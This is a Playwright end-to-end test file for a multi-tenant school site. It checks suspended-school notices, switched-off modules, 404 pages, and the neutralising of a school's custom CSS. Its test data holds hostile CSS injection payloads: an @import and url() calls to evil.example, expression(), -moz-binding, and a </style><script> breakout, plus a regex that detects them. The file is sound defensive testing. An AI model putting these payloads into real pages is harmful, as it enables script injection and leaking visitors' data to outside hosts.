import { expect, test, type Page } from "@playwright/test";
import { expectNoAxeViolations } from "../support/axe";
import { upsertSchool, withDatabase } from "../support/database";

const PORT = process.env.E2E_PORT ?? "3100";
const HOSTILE_CSS = [
  "@import url(https://evil.example/steal.css);",
  "header { background: url(https://evil.example/pixel.png) !important; }",
  "main { width: expression(alert(1)); }",
  "body { -moz-binding: url(https://evil.example/x.xml#x); }",
  ".ok-rule { color: #222222; }",
  "</style><script>window.__pwned = true</script>",
].join("\n");

test.beforeAll(async () => {
  await withDatabase(async (db) => {
    await upsertSchool(db, { slug: "closed-academy", name: "Closed Academy", status: "suspended" });
    await upsertSchool(db, {
      slug: "hostile-prep",
      name: "Hostile Prep",
      customCss: HOSTILE_CSS,
      features: { portal: false },
    });
  });
});

test("a suspended school shows the suspended notice and no way to sign in, with HTTP 503", async ({
  page,
}) => {
  for (const path of ["/", "/login"])
    expect((await page.goto(`http://closed-academy.localhost:${PORT}${path}`))?.status(), path).toBe(503);
  expect((await page.goto(`http://lincoln.localhost:${PORT}/login`))?.status()).toBe(200);
  await page.goto(`http://closed-academy.localhost:${PORT}/portal`);
  await expect(page.getByRole("heading", { name: "Service suspended" })).toBeVisible();
  await expect(page.getByText("Sign-in is not possible")).toBeVisible();
  await expect(page.getByRole("link", { name: /portal|sign in/i })).toHaveCount(0);
  await expectNoAxeViolations(page);
});

// Chromium, not Node, fetches: *.localhost resolves to this machine only in the browser.
const textOf = async (page: Page, url: string) => await (await page.goto(url))!.text();

test("a school's hostile custom CSS is neutralised and reaches no other origin", async ({ page }) => {
  const sheet = await textOf(page, `http://hostile-prep.localhost:${PORT}/brand.css`);
  expect(sheet).toContain(".ok-rule");
  expect(sheet).not.toMatch(/@import|evil\.example|expression|-moz-binding|<\/style|<script/i);

  const foreign: string[] = [];
  page.on("request", (r) => {
    if (!new URL(r.url()).hostname.endsWith("localhost")) foreign.push(r.url());
  });
  await page.goto(`http://hostile-prep.localhost:${PORT}/`);
  await expect(page.getByTestId("school-header")).toHaveCSS("background-color", "rgb(47, 107, 58)");
  expect(await page.evaluate(() => (window as unknown as { __pwned?: boolean }).__pwned)).toBeUndefined();
  expect(foreign).toEqual([]);

  // And it restyles no other school.
  const lincolnSheet = await textOf(page, `http://lincoln.localhost:${PORT}/brand.css`);
  expect(lincolnSheet).not.toContain("ok-rule");
});

test("a module a school switched off answers 404; other schools keep it", async ({ page }) => {
  expect((await page.goto(`http://hostile-prep.localhost:${PORT}/portal`))?.status()).toBe(404);
  // Lincoln keeps it: the page exists and asks a stranger to sign in.
  await page.goto(`http://lincoln.localhost:${PORT}/portal`);
  await expect(page).toHaveURL(`http://lincoln.localhost:${PORT}/login`);
});

test("a missing page on a school keeps the school's look and offers a way back; the console's too", async ({
  page,
}) => {
  expect((await page.goto(`http://lincoln.localhost:${PORT}/no-such-page`))?.status()).toBe(404);
  await expect(page.getByRole("heading", { name: "Page not found" })).toBeVisible();
  await expect(page.getByRole("banner")).toContainText("Lincoln");
  await page.getByRole("link", { name: "Back to the home page" }).click();
  await expect(page).toHaveURL(`http://lincoln.localhost:${PORT}/`);
  expect((await page.goto(`http://admin.localhost:${PORT}/no-such-page`))?.status()).toBe(404);
  await expect(page.getByRole("link", { name: "Back to the schools" })).toBeVisible();
  expect((await page.goto(`http://lincoln.localhost:${PORT}/favicon.svg`))?.status()).toBe(200);
});
